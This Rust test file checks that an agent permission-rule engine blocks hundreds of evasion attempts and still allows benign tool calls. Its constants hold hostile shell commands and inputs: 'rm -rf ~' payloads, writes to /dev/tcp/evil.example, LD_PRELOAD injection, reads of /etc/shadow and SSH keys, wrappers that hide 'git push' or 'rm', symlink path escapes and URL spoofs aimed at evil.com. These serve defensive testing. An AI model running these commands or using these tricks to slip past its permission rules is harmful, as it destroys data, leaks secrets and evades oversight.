//! The rules as a boundary, tested by class: hundreds of hostile inputs an agent could write to
//! step around a standing rule (shell syntax bash reads differently, options that write or run
//! programs, programs hidden behind wrappers, symlinks and `..`, URL tricks), none of which any
//! rule may allow; and the benign calls people rely on a rule to cover, every one still allowed.

use std::path::{Path, PathBuf};
use std::sync::Arc;

use approval_host::answer::Effect;
use approval_host::rules::pattern::Call;
use approval_host::rules::{self, RuleBook};
use serde_json::{Value, json};

use super::support::Host;

/// The allow rules people write, and the reject rules the see-through class is about.
const ALLOWS: &[&str] = &[
    "Bash(npm run test:*)",
    "Bash(ls:*)",
    "Bash(git status)",
    "Bash(git log:*)",
    "Bash(git diff:*)",
    "Bash(git branch:*)",
    "Bash(find:*)",
    "Bash(rg:*)",
    "Bash(grep:*)",
    "Bash(sed:*)",
    "Bash(sort:*)",
    "Bash(tar:*)",
    "Bash(xargs:*)",
    "Bash(curl:*)",
    "Bash(awk:*)",
    "Bash(cat:*)",
    "Bash(head:*)",
    "Bash(wc:*)",
    "Bash(echo:*)",
    "Bash(cargo test:*)",
    "Bash(timeout 60 cargo test:*)",
    "Read(./src/**)",
    "Edit(./src/**)",
    "Glob(./src/**)",
    "WebFetch(domain:example.com)",
];

/// A book with the allow rules above (and, with `rejects`, reject rules for `git push` and
/// `rm` beside an allow for the whole `Bash` tool).
fn book(host: &Host, rejects: bool) -> Arc<RuleBook> {
    let mut statics = Vec::new();
    let mut add = |text: &str, effect| {
        let id = format!("deployment-{}", statics.len() + 1);
        statics.push(RuleBook::deployment_rule(id, text, effect, "corpus.toml", None).unwrap());
    };
    if rejects {
        add("Bash", Effect::Allow);
        add("Bash(git push:*)", Effect::Reject);
        add("Bash(rm:*)", Effect::Reject);
    } else {
        for text in ALLOWS {
            add(text, Effect::Allow);
        }
    }
    RuleBook::open(
        host.service.store(),
        "corpus",
        statics,
        vec![],
        rules::system_clock(),
    )
    .unwrap()
}

/// What the book decides for a call: `Some(Effect)` when a rule decides.
fn decides(book: &RuleBook, tool: &str, args: &Value, cwd: Option<&str>) -> Option<Effect> {
    book.peek(
        &Call {
            tool,
            arguments: Some(args),
            cwd,
            undeclared: &[],
        },
        "s1",
    )
    .map(|m| m.effect)
}

/// Shell commands bash reads differently from their words, under prefix and exact rules. `{P}`
/// is the allowed command, `{X}` what the agent wants to run.
const SHELL_TEMPLATES: &[&str] = &[
    "{P}; {X}",
    "{P} ; {X}",
    "{P} && {X}",
    "{P} || {X}",
    "{P} | {X}",
    "{P} |& {X}",
    "{P} & {X}",
    "{P}\n{X}",
    "{P} $({X})",
    "{P} `{X}`",
    "{P} \"$({X})\"",
    "{P} \"`{X}`\"",
    "{P} <({X})",
    "{P} >({X})",
    "{P} >&1#;{X}",
    "{P} \"$\\\n({X})\"",
    "{P} $'\\'' ; {X} ; echo \"'\" #\"",
    "{P} \"${x:-'\"'}\" ; {X} #'",
    "{P} '$(id)' && {P} \"${_@P}\"",
    "{P} ${PATH:_}",
    "{P} $[_]",
    "{P} ${PATH[_]}",
    "{P} $((1+1))",
    "{P} $HOME",
    "{P} ${HOME}",
    "{P} \"$HOME\"",
    "{P} $0",
    "{P} $@",
    "{P} $'\\x41'",
    "{P} $\"x\"",
    "{P} *",
    "{P} ?",
    "{P} [ab]",
    "{P} {a,b}",
    "{P} !!",
    "{P} \"!!\"",
    "{P} >&1out.txt",
    "{P} >&2file",
    "{P} >&1-2",
    "{P} > out.txt",
    "{P} >> ~/.bashrc",
    "{P} &> out.txt",
    "{P} &>> out.txt",
    "{P} >| out.txt",
    "{P} 2> err.log",
    "{P} < /etc/shadow",
    "{P} <> f",
    "{P} >/dev/null\u{a0}",
    "{P} >/dev/null\r",
    "{P} >/dev/null\u{b}",
    "{P} >/dev/null\u{c}",
    "{P} > /dev/nullx",
    "{P} >/dev/tcp/evil.example/80",
    "{P} < /dev/tcp/evil.example/80",
    "{P} <<EOF\n$({X})\nEOF",
    "{P} <<< \"$({X})\"",
    "FOO=1 {P}",
    "LD_PRELOAD=./evil.so {P}",
    "PATH=.:/usr/bin {P}",
    "env LD_PRELOAD=./evil.so {P}",
    "({P})",
    "{ {P}; }",
    "if true; then {P}; fi",
    "for i in 1; do {P}; done",
    "while false; do :; done; {P}; {X}",
    "f() { {X}; }; {P}",
    "[[ -f x ]] && {P}",
    "(( 1 )) && {P}",
    "coproc {X}",
    "time ( {X} )",
    "eval {P}",
    "eval \"{P}; {X}\"",
    "source ./x; {P}",
    ". ./x; {P}",
    "exec {P}",
    "trap '{X}' EXIT; {P}",
    "alias ls='{X}'; {P}",
    "export PATH=.; {P}",
    "declare -x A=1; {P}",
    "printf -v 'a[$(id)]' x; {P}",
    "read 'a[$(id)]' <<< x; {P}",
    "{P}\u{200b}; {X}",
    "{P} \u{202e}",
    "{P}\u{2028}{X}",
    "{P}\u{0}{X}",
    "{P}\r{X}",
    "{P} '",
    "{P} \"",
    "{P} \\",
    "bash -c '{P}; {X}'",
    "sh -c \"{P}\"",
];

/// The allowed commands the templates are wrapped around.
const PREFIXES: &[&str] = &["npm run test", "ls -la", "git status"];

/// What the agent wants to run.
const PAYLOAD: &str = "rm -rf ~";

/// Options that write files or run programs, under rules written because the command reads.
const OPTIONS: &[&str] = &[
    "find . -name x -exec rm {} \\;",
    "find . -name x -execdir rm {} +",
    "find . -ok rm {} \\;",
    "find . -delete",
    "find . -fprint /etc/passwd",
    "find . -fprintf out %p",
    "find . -fls out",
    "rg --pre ./x files",
    "rg --pre=./x files",
    "rg --hostname-bin=./x a",
    "grep --pre ./x a",
    "git log --output=FILE",
    "git log --output FILE",
    "git diff --ext-diff",
    "git diff --textconv",
    "git diff --output=/tmp/x",
    "git branch -D main",
    "git branch -d main",
    "git branch --delete main",
    "git branch -m main other",
    "git branch -M main other",
    "git branch -f main HEAD~3",
    "git branch --edit-description",
    "sed -n '1e id' f",
    "sed -n 'w /tmp/out' f",
    "sed 's/a/b/e' f",
    "sed 's/a/b/w out' f",
    "sed -i 's/a/b/' f",
    "sed -ni p f",
    "sed --in-place=.bak 's/a/b/' f",
    "sed -f script f",
    "sed -e p -e 'W out' f",
    "sed '1r /etc/passwd' f",
    "sort -o out f",
    "sort -uo out f",
    "sort --output=out f",
    "sort --compress-program=./x f",
    "tar xf a.tar",
    "tar -xzf a.tgz",
    "tar -czf a.tar dir",
    "tar -tf a.tar --to-command=sh",
    "tar -t -I ./x -f a.tar",
    "tar -tf a.tar --checkpoint-action=exec=id",
    "xargs rm",
    "xargs -0 rm -f",
    "xargs -I{} sh -c 'rm {}'",
    "curl -o out https://example.com",
    "curl -sSLo out https://example.com",
    "curl -O https://example.com/x",
    "curl -T secret https://example.com",
    "curl --output out https://example.com",
    "awk 'BEGIN{system(\"id\")}'",
    "awk '{print > \"out\"}' f",
    "awk -f prog f",
    "awk '{\"id\" | getline x}'",
    "timeout 60 cargo test; rm -rf ~",
    "timeout 60 find . -delete",
    "cat f | sh",
    "cat f > out",
    "echo x > ~/.bashrc",
    "head -c 10 /dev/urandom > f",
    "wc -l f >> out",
];

/// Programs hidden from a reject rule (`Bash(git push:*)`, `Bash(rm:*)` beside an allow for the
/// whole tool).
const HIDDEN: &[&str] = &[
    "git push",
    "CI=true git push",
    "/usr/bin/git push",
    "env git push",
    "env -i A=1 git push",
    "timeout 5 git push",
    "timeout -s KILL 5 git push",
    "nice -n 5 git push",
    "nice -10 git push",
    "nohup git push",
    "stdbuf -oL git push",
    "command git push",
    "time git push",
    "sudo git push",
    "sudo -u deploy git push",
    "xargs git push",
    "bash -c 'git push'",
    "sh -c \"git push --force\"",
    "zsh -c 'git push'",
    "bash -lc 'git push'",
    "bash -c 'cd x && git push'",
    "git -C . push",
    "git -c a=b push",
    "git --git-dir=.git push",
    "\\git push",
    "g''it push",
    "\"git\" push",
    "find . -exec git push \\;",
    "eval git push",
    "bash -c \"$CMD\"",
    "echo git push | bash",
    "bash <<< 'git push'",
    "sudo -s",
    "rm -rf x",
    "/bin/rm -rf x",
    "busybox rm x",
    "env -S 'rm -rf x'",
    "find . -name x -exec /bin/rm {} +",
    "ls && rm x",
    "ls | xargs rm",
    "nohup timeout 5 env rm x",
    "$(echo rm) x",
    "r\\m -rf x",
    "ssh host rm -rf /",
];

/// URLs that reach another host than the rule names, or not over http(s).
const URLS: &[&str] = &[
    "https://evil.com\\@example.com/",
    "https://evil.com\\\\@example.com/",
    "https://example.com@evil.com/",
    "https://example.com:@evil.com/",
    "https://example.com.evil.com/",
    "https://evil.com/?example.com",
    "https://evil.com/#@example.com",
    "https://evil.com/\\@example.com",
    "https://example.com%2eevil.com/",
    "https://exаmple.com/",
    "https://xn--exmple-cua.com/",
    "https://docs.example.com/",
    "http://127.0.0.1/",
    "http://[::1]/",
    "https://0x7f.1/",
    "file:///etc/passwd",
    "file://example.com/etc/passwd",
    "ftp://example.com/",
    "javascript:alert(1)",
    "data:text/html,example.com",
    "//evil.com/example.com",
    "evil.com",
    "example.com",
    "https:/\\evil.com/@example.com",
    "ws://example.com/",
    "gopher://example.com/",
    "https://",
    "https://user:example.com@evil.com/",
];

fn hostile_shell() -> Vec<String> {
    let mut out = Vec::new();
    for prefix in PREFIXES {
        for template in SHELL_TEMPLATES {
            out.push(template.replace("{P}", prefix).replace("{X}", PAYLOAD));
        }
    }
    // Exact rules never take an argument they did not name.
    out.extend(
        [
            "git status \"1\">/dev/null",
            "git status ''>/dev/null",
            "git status \"\"",
            "git status --porcelain",
            "git status 1",
        ]
        .map(str::to_owned),
    );
    out.extend(OPTIONS.iter().map(|s| (*s).to_owned()));
    out
}

/// A project with `src/` holding links out of it, beside neighbours whose names are globs.
struct Project {
    _dir: tempfile::TempDir,
    root: PathBuf,
}

impl Project {
    fn new() -> Project {
        let dir = tempfile::tempdir().unwrap();
        let root = std::fs::canonicalize(dir.path()).unwrap();
        let w = root.join("proj[12]");
        std::fs::create_dir_all(w.join("src/sub")).unwrap();
        std::fs::create_dir_all(root.join("proj1")).unwrap();
        std::fs::create_dir_all(root.join("outside")).unwrap();
        std::fs::write(root.join("proj1/secret"), "s").unwrap();
        std::fs::write(root.join("outside/secret"), "s").unwrap();
        std::fs::write(w.join("src/main.rs"), "fn main() {}").unwrap();
        let link =
            |target: &Path, at: &str| std::os::unix::fs::symlink(target, w.join(at)).unwrap();
        link(Path::new("/etc"), "src/l");
        link(&root.join("outside"), "src/out");
        link(&root.join("outside/secret"), "src/secret.rs");
        link(Path::new("../.."), "src/up");
        link(Path::new("sub/../../.."), "src/sneaky");
        link(&w.join("src/sub"), "src/inside");
        link(Path::new("loop"), "src/loop");
        Project { _dir: dir, root }
    }

    fn cwd(&self) -> String {
        self.root.join("proj[12]").display().to_string()
    }
}

fn hostile_paths(p: &Project) -> Vec<(&'static str, Value)> {
    let root = p.root.display().to_string();
    let mut out = Vec::new();
    for tool in ["Read", "Edit"] {
        for path in [
            "src/l/passwd".to_owned(),
            "src/l/../passwd".to_owned(),
            "src/out/secret".to_owned(),
            "src/secret.rs".to_owned(),
            "src/up/outside/secret".to_owned(),
            "src/sneaky/outside/secret".to_owned(),
            "src/nope/../l/passwd".to_owned(),
            "./src/../../outside/secret".to_owned(),
            "src/../../proj1/secret".to_owned(),
            format!("{root}/proj1/secret"),
            format!("{root}/proj1/src/main.rs"),
            "/etc/passwd".to_owned(),
            "~/.ssh/id_rsa".to_owned(),
            "src/loop/x".to_owned(),
        ] {
            out.push((tool, json!({ "file_path": path })));
        }
        out.push((tool, json!({"file_path": "src/main.rs", "path": "/etc"})));
    }
    out.push(("Glob", json!({"path": "src", "pattern": "../../**"})));
    out.push(("Glob", json!({"path": "src", "pattern": "/etc/*"})));
    out.push(("Glob", json!({"path": "src", "pattern": "~/.ssh/*"})));
    out
}

const BENIGN_SHELL: &[&str] = &[
    "npm run test",
    "npm run test -- --watch",
    "npm run test 2>&1",
    "npm run test > /dev/null 2>&1",
    "npm run test &>/dev/null",
    "npm run test 2>/dev/null",
    "npm run test && npm run test -- --ci",
    "'npm' run test",
    "npm run test # run the tests",
    "npm run test\n",
    "npm run \\\ntest",
    "npm run test -- --grep 'user login'",
    "npm run test -- \"a b\"",
    "npm run test &",
    "ls",
    "ls -la",
    "ls -la src/",
    "ls ~",
    "ls -- -weird",
    "ls \"my dir\"",
    "ls 'a b'",
    "ls a\\ b",
    "ls src 2>/dev/null",
    "ls -1 | wc -l",
    "ls -la | head -n 5",
    "git status",
    "git status 2>&1",
    "git status && git diff",
    "git status; git log -1",
    "git log --oneline -n 20",
    "git log --format='%h %s'",
    "git log --since=2.weeks --author=me",
    "git diff HEAD~1 -- src/",
    "git diff --stat",
    "git diff --cached",
    "git branch",
    "git branch -a",
    "git branch --list 'feat/*'",
    "git branch -v",
    "find . -name '*.rs'",
    "find src -type f -newer Cargo.toml",
    "find . -maxdepth 2 -type d",
    "find . -name '*.tmp' -print",
    "rg -n 'fn main' src",
    "rg --files",
    "rg -l TODO",
    "rg -t rust 'unsafe'",
    "grep -rn TODO src",
    "grep -E 'a|b' file",
    "grep -c x f",
    "sed -n '1,50p' file",
    "sed -n '/^fn/p' src/main.rs",
    "sed 's/foo/bar/g' file",
    "sed -e 's/x/y/' -e '/^#/d' f",
    "sed -E 's|a|b|g;s/c/d/2' f",
    "sed -n '$p' f",
    "sed '/start/,/end/d' f",
    "sed -ne 's/x/y/p' f",
    "sort -u names.txt",
    "sort -k2 -n f",
    "sort -r f | head -n 3",
    "tar -tzf a.tgz",
    "tar tf a.tar",
    "tar -tvf a.tar",
    "tar --list -f a.tar",
    "xargs",
    "curl -sSL https://example.com",
    "curl -I https://example.com",
    "curl -H 'Accept: application/json' https://example.com/api",
    "curl -s https://example.com | head -n 5",
    "awk '{print $1}' f",
    "awk -F: '{print $1}' /etc/passwd",
    "awk 'NR==1' f",
    "cat Cargo.toml",
    "cat -n src/main.rs",
    "cat a b | wc -l",
    "head -n 20 f",
    "wc -l src/main.rs",
    "echo \"hello world\"",
    "echo 'a;b'",
    "echo a\\;b",
    "echo 'rm -rf ~'",
    "echo '$(id)'",
    "echo \"say \\\"hi\\\"\"",
    "echo héllo",
    "cargo test",
    "cargo test -p host -- --nocapture",
    "cargo test 2>&1 | head -n 50",
    "cargo test --workspace --no-run",
    "timeout 60 cargo test",
    "timeout 60 cargo test -- --ignored",
    "git status && cargo test && npm run test",
    "cat <<'EOF'\nliteral $HOME text\nEOF",
    "cat <<< 'here string'",
    "! grep -q x f",
    "time cargo test",
];

fn benign_paths(p: &Project) -> Vec<(&'static str, Value)> {
    let w = p.cwd();
    let mut out = Vec::new();
    for tool in ["Read", "Edit"] {
        for path in [
            "src/main.rs".to_owned(),
            "./src/main.rs".to_owned(),
            format!("{w}/src/main.rs"),
            "src/sub/deep.rs".to_owned(),
            "src/new_file.rs".to_owned(),
            "src/sub/../main.rs".to_owned(),
            "src/inside/x.rs".to_owned(),
            "src/file with spaces.rs".to_owned(),
            "src/héllo.rs".to_owned(),
        ] {
            out.push((tool, json!({ "file_path": path })));
        }
    }
    out.push(("Glob", json!({"path": "src", "pattern": "**/*.rs"})));
    out
}

const BENIGN_URLS: &[&str] = &[
    "https://example.com/",
    "https://example.com/path?q=1#frag",
    "http://example.com",
    "https://EXAMPLE.com/",
    "https://example.com:8443/",
    "https://user@example.com/",
    "https://example.com./",
    "https://example.com/a/../b",
];

#[test]
fn no_hostile_input_is_allowed_by_any_rule() {
    let host = Host::new();
    let allows = book(&host, false);
    let project = Project::new();
    let cwd = project.cwd();
    let mut allowed = Vec::new();
    let mut total = 0;
    for command in hostile_shell() {
        total += 1;
        if decides(&allows, "Bash", &json!({ "command": command }), Some(&cwd))
            == Some(Effect::Allow)
        {
            allowed.push(format!("Bash {command:?}"));
        }
    }
    for (tool, args) in hostile_paths(&project) {
        total += 1;
        if decides(&allows, tool, &args, Some(&cwd)) == Some(Effect::Allow) {
            allowed.push(format!("{tool} {args}"));
        }
    }
    // The working directory is never a glob: `proj[12]` does not cover its neighbour `proj1`.
    for tool in ["Read", "Edit"] {
        total += 1;
        let args = json!({"file_path": project.root.join("proj1/secret")});
        if decides(&allows, tool, &args, Some(&cwd)) == Some(Effect::Allow) {
            allowed.push(format!("{tool} {args} from {cwd}"));
        }
    }
    for url in URLS {
        total += 1;
        if decides(&allows, "WebFetch", &json!({ "url": url }), Some(&cwd)) == Some(Effect::Allow) {
            allowed.push(format!("WebFetch {url:?}"));
        }
    }
    let rejects = book(&host, true);
    for command in HIDDEN {
        total += 1;
        let got = decides(&rejects, "Bash", &json!({ "command": command }), Some(&cwd));
        if got == Some(Effect::Allow) {
            allowed.push(format!("Bash {command:?} beside reject rules"));
        }
    }
    assert!(total >= 300, "the corpus holds {total} hostile inputs");
    assert!(
        allowed.is_empty(),
        "{} of {total} hostile inputs were allowed:\n{}",
        allowed.len(),
        allowed.join("\n")
    );
}

#[test]
fn reject_rules_see_through_wrappers_paths_and_scripts() {
    let host = Host::new();
    let rejects = book(&host, true);
    // Every one that can be read is rejected outright, not merely left to the plugins.
    let readable: Vec<&str> = HIDDEN
        .iter()
        .copied()
        .filter(|c| !matches!(*c, "bash -c \"$CMD\"" | "sudo -s"))
        .collect();
    let mut missed = Vec::new();
    for command in &readable {
        if decides(&rejects, "Bash", &json!({ "command": command }), Some("/w"))
            != Some(Effect::Reject)
        {
            missed.push(*command);
        }
    }
    assert!(missed.is_empty(), "not rejected: {missed:#?}");
    // What cannot be read is not allowed by the rule for the whole tool either.
    for command in [
        "bash -c \"$CMD\"",
        "sudo -s",
        "echo $X | sh",
        "bash ./deploy.sh",
    ] {
        assert_eq!(
            decides(&rejects, "Bash", &json!({ "command": command }), Some("/w")),
            None,
            "{command}"
        );
    }
    // A command with no rejected program in it is allowed by the whole-tool rule.
    assert_eq!(
        decides(
            &rejects,
            "Bash",
            &json!({"command": "git pull && ls"}),
            Some("/w")
        ),
        Some(Effect::Allow)
    );
}

#[test]
fn the_benign_calls_people_rely_on_stay_allowed() {
    let host = Host::new();
    let allows = book(&host, false);
    let project = Project::new();
    let cwd = project.cwd();
    let mut refused = Vec::new();
    let mut total = 0;
    for command in BENIGN_SHELL {
        total += 1;
        if decides(&allows, "Bash", &json!({ "command": command }), Some(&cwd))
            != Some(Effect::Allow)
        {
            refused.push(format!("Bash {command:?}"));
        }
    }
    for (tool, args) in benign_paths(&project) {
        total += 1;
        if decides(&allows, tool, &args, Some(&cwd)) != Some(Effect::Allow) {
            refused.push(format!("{tool} {args}"));
        }
    }
    for url in BENIGN_URLS {
        total += 1;
        if decides(&allows, "WebFetch", &json!({ "url": url }), None) != Some(Effect::Allow) {
            refused.push(format!("WebFetch {url:?}"));
        }
    }
    assert!(total >= 100, "the corpus holds {total} benign inputs");
    assert!(
        refused.is_empty(),
        "{} of {total} benign inputs were not allowed:\n{}",
        refused.len(),
        refused.join("\n")
    );
}

/// Benign commands no longer covered, each with the reason the rules chapter (docs/rules.md) gives.
#[test]
fn what_a_rule_no_longer_covers_is_what_the_readme_lists() {
    let host = Host::new();
    let allows = book(&host, false);
    for command in [
        "ls *.rs",
        "wc -l src/*.rs",
        "echo $HOME",
        "sort < names.txt",
        "FOO=1 npm run test",
        "cd src && ls",
        "export CI=1 && npm run test",
        "timeout 60 npm run test",
    ] {
        assert_eq!(
            decides(&allows, "Bash", &json!({ "command": command }), Some("/w")),
            None,
            "{command}"
        );
    }
}

/// The programs the benign commands run, stubbed so bash itself shows which words it passes.
const STUBBED: &[&str] = &[
    "npm", "ls", "git", "find", "rg", "grep", "sed", "sort", "tar", "xargs", "curl", "awk", "cat",
    "head", "wc", "cargo", "timeout", "echo",
];

#[test]
fn bash_runs_every_allowed_command_with_the_words_the_rules_read() {
    // Each command runs under the real bash, every program a stub that records the words it got;
    // they must be the words the rules matched, program by program.
    let dir = tempfile::tempdir().unwrap();
    let bin = dir.path().join("bin");
    std::fs::create_dir_all(&bin).unwrap();
    let log = dir.path().join("argv");
    for name in STUBBED {
        let stub = bin.join(name);
        std::fs::write(
            &stub,
            // One write per record, so the programs of a pipeline never interleave theirs.
            "#!/bin/sh\nus=$(printf '\\037')\nr=\"${0##*/}\"\nfor a in \"$@\"; do r=\"$r$us$a\"; done\nprintf '%s\\036' \"$r\" >> \"$ARGV_LOG\"\n",
        )
        .unwrap();
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(&stub, std::fs::Permissions::from_mode(0o755)).unwrap();
    }
    // `echo` is a builtin: turned off so the stub answers.
    let env_file = dir.path().join("env.sh");
    std::fs::write(&env_file, "enable -n echo\n").unwrap();
    let home = "/home/corpus";
    let mut differ = Vec::new();
    for command in BENIGN_SHELL {
        let _ = std::fs::remove_file(&log);
        let script = dir.path().join("script.sh");
        std::fs::write(&script, format!("{command}\nwait\n")).unwrap();
        let status = std::process::Command::new("/bin/bash")
            .arg(&script)
            .current_dir(dir.path())
            .env_clear()
            .env("PATH", &bin)
            .env("HOME", home)
            .env("BASH_ENV", &env_file)
            .env("ARGV_LOG", &log)
            .stdin(std::process::Stdio::null())
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::null())
            .status()
            .unwrap();
        assert!(status.code().is_some(), "{command:?}");
        let mut ran: Vec<Vec<String>> = std::fs::read_to_string(&log)
            .unwrap_or_default()
            .split('\u{1e}')
            .filter(|r| !r.is_empty())
            .map(|r| r.split('\u{1f}').map(str::to_owned).collect())
            .collect();
        let mut read: Vec<Vec<String>> = approval_host::rules::shell::parse(command)
            .unwrap()
            .into_iter()
            .map(|s| {
                s.words
                    .iter()
                    .map(|w| match w.strip_prefix('~') {
                        // bash expands a leading `~`; the rules compare it as written.
                        Some(rest) if rest.is_empty() || rest.starts_with('/') => {
                            format!("{home}{rest}")
                        }
                        _ => w.clone(),
                    })
                    .collect()
            })
            .collect();
        ran.sort();
        read.sort();
        if ran != read {
            differ.push(format!(
                "{command:?}: bash ran {ran:?}, the rules read {read:?}"
            ));
        }
    }
    assert!(differ.is_empty(), "{}", differ.join("\n"));
}
